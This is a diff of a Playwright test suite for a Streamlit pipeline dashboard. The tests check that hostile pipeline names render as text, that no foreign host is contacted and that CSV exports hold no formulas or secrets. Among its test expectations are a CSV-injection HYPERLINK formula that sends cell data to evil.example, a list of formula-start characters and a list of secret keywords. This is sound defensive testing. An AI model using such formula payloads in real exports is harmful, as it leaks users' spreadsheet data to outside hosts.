@@ -2,32 +2,34 @@
 
 from __future__ import annotations
 
-import csv
-import io
+import base64
 import json
 from collections.abc import Iterator
-from pathlib import Path
 
 import pytest
 from playwright.sync_api import BrowserContext, Page, WebSocket, expect
 
+from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
+
 from sandbox import Sandbox
 from tests.conftest import Dashboard, free_port, launch, settings_for
+from tests.tab_house import downloaded, drawn, too_wide, unfold
 
 OPENED = 8000  # its name has bold, italics, code, a link and a heading
+ADDRESS = 8009  # its name is nothing but addresses
 PAGES = {
     "/": "pipelines need attention",
     "/pipelines": "Pipelines",
     "/history": "History",
     "/run": "Run",
-    "/guide": "Guide",
     f"/pipelines?pipeline={OPENED}": "**bold** _it_ `code` [click](https://",
+    f"/pipelines?pipeline={ADDRESS}": "https://\u200bevil.example/bare",
 }
 RAW_SECRETS = ("must-stay-hidden", "hunter2", "db_password", "api_token", "webhook_url", "root:")
 FORMULA_STARTS = tuple("=+-@\t\r\0＝＋－＠")
 FOUND_IN_PAGE = """() => {
   const main = document.querySelector('[data-testid=stMain]')
-  const made = [...main.querySelectorAll('b, em, i, del, script, iframe, object, .katex, p code, li code')]
+  const made = [...main.querySelectorAll('b, em, i, del, script, iframe, .katex, p code, li code, h1 code')]
   const pictures = [...document.querySelectorAll('img, video, audio, link, source')]
     .filter(one => /^(https?:)?\\/\\//.test(one.getAttribute('src') ?? one.getAttribute('href') ?? ''))
     .filter(one => new URL(one.src || one.href).host !== location.host)
@@ -68,6 +70,7 @@ class Wire:
 
     def _listen(self, socket: WebSocket) -> None:
         self._asked(socket.url)
+        self.socket = socket
         for event in ("framereceived", "framesent"):
             socket.on(event, lambda frame: self.frames.append(frame if isinstance(frame, bytes) else frame.encode()))  # type: ignore[call-overload]
 
@@ -81,22 +84,7 @@ def visit(page: Page, address: str, text: str) -> None:
     """Opens a page and waits until all of it is drawn."""
     page.goto(address)
     expect(page.get_by_role("heading", level=1)).to_contain_text(text)
-    page.wait_for_load_state("networkidle")
-    expect(page.locator("[data-test-script-state=notRunning]")).to_be_attached()
-
-
-def unfold(page: Page) -> None:
-    """Opens what is folded: the lists of names."""
-    for fold in page.locator("[data-testid=stExpander] summary").all():
-        if not fold.locator("xpath=..").get_attribute("open"):
-            fold.click()
-
-
-def no_sideways_scroll(page: Page) -> bool:
-    """True when neither the document nor Streamlit's own scrolling part is wider than the window."""
-    widths = "one => [one.scrollWidth, one.clientWidth]"
-    parts = [page.locator(part).evaluate(widths) for part in ("html", "[data-testid=stMain]")]
-    return all(wide <= room for wide, room in parts)
+    drawn(page)
 
 
 @pytest.mark.parametrize("path", PAGES)
@@ -105,8 +93,7 @@ def test_hostile_text_stays_text_and_no_other_host_hears_of_it(dashboard: Dashbo
     visit(page, dashboard.url + path, PAGES[path])
     unfold(page)
     assert page.evaluate(FOUND_IN_PAGE) == []
-    page.set_viewport_size({"width": 320, "height": 3000})
-    assert no_sideways_scroll(page)
+    assert too_wide(page, 320) == []
     assert wire.foreign == []
     assert wire.frames
     assert wire.leaks(page) == []
@@ -127,28 +114,26 @@ def test_the_confirmation_and_the_outcome_of_a_run_show_the_name_as_it_is(dashbo
     assert wire.leaks(page) == []
 
 
-def test_a_pipeline_without_a_number_can_be_chosen_in_the_table_without_harm(
-    dashboard: Dashboard, hevo: Sandbox, page: Page
-) -> None:
-    visit(page, f"{dashboard.url}/pipelines", "Pipelines")
-    page.get_by_role("textbox", name="Search").fill("heading")
-    expect(page.get_by_text("hidden by the filter")).to_be_visible()
-    order = [row["number"] for row in downloaded(page, "Download as CSV")]
-    place = order.index("")
-    box = page.get_by_test_id("stDataFrame").bounding_box()
-    assert box
-    page.mouse.click(box["x"] + 16, box["y"] + 35 * (place + 1) + 18)
-    expect(page.locator("[data-test-script-state=notRunning]")).to_be_attached()
-    expect(page.get_by_role("heading", level=1)).to_have_text("Pipelines")
+def test_a_pipeline_without_a_number_can_be_chosen_in_the_table_without_harm(dashboard: Dashboard, page: Page) -> None:
+    wire = Wire(page, dashboard.url)
+    visit(page, f"{dashboard.url}/pipelines?search=heading", "Pipelines")
+    numbers = [row["number"] for row in downloaded(page)]
+    with wire.socket.expect_event("framereceived", is_the_end_of_a_run):
+        choose(page, numbers.index(""))
     expect(page).to_have_url(f"{dashboard.url}/pipelines?search=heading")
+    choose(page, numbers.index(str(OPENED)))
+    expect(page).to_have_url(f"{dashboard.url}/pipelines?search=heading&pipeline={OPENED}")
 
 
-def downloaded(page: Page, button: str) -> list[dict[str, str]]:
-    """The rows of a CSV download."""
-    with page.expect_download() as download:
-        page.get_by_role("button", name=button).click()
-    text = Path(download.value.path()).read_bytes().decode("utf-8-sig")
-    return list(csv.DictReader(io.StringIO(text, newline="")))
+def choose(page: Page, place: int) -> None:
+    """Ticks a row of the table, which is painted on a canvas: by its place."""
+    page.get_by_test_id("stDataFrame").click(position={"x": 16, "y": 35 * (place + 1) + 18})
+
+
+def is_the_end_of_a_run(frame: str | bytes) -> bool:
+    """True when the server says that a page was drawn to its end, without another run right behind it."""
+    said = ForwardMsg.FromString(bytes(frame) if isinstance(frame, bytes) else frame.encode())
+    return said.HasField("script_finished") and said.script_finished == ForwardMsg.FINISHED_SUCCESSFULLY
 
 
 @pytest.mark.parametrize(
@@ -161,7 +146,7 @@ def test_no_cell_of_a_download_is_a_formula_or_a_secret(
     rows = downloaded(page, button)
     cells = [cell for row in rows for cell in row.values()]
     assert [cell for cell in cells if cell.lstrip(" \n\u00a0\u200b\u2060\ufeff").startswith(FORMULA_STARTS)] == []
-    assert {"'=HYPERLINK(\"https://evil.example/?\"&A1, \"open\")", "'+1-2", "'@SUM(1+1)"} <= set(cells)
+    assert {'\'=HYPERLINK("https://evil.example/?"&A1, "open")', "'+1-2", "'@SUM(1+1)"} <= set(cells)
     assert [secret for secret in RAW_SECRETS if secret in json.dumps(rows)] == []
     assert {str(number) for number in hevo.fleet.ids if number} <= {row["number"] for row in rows}
 
@@ -182,6 +167,4 @@ def test_the_raw_data_really_hold_what_these_tests_look_for(context: BrowserCont
 
 
 def _basic(hevo: Sandbox) -> str:
-    import base64
-
     return "Basic " + base64.b64encode(f"{hevo.api_key}:{hevo.api_secret}".encode()).decode()
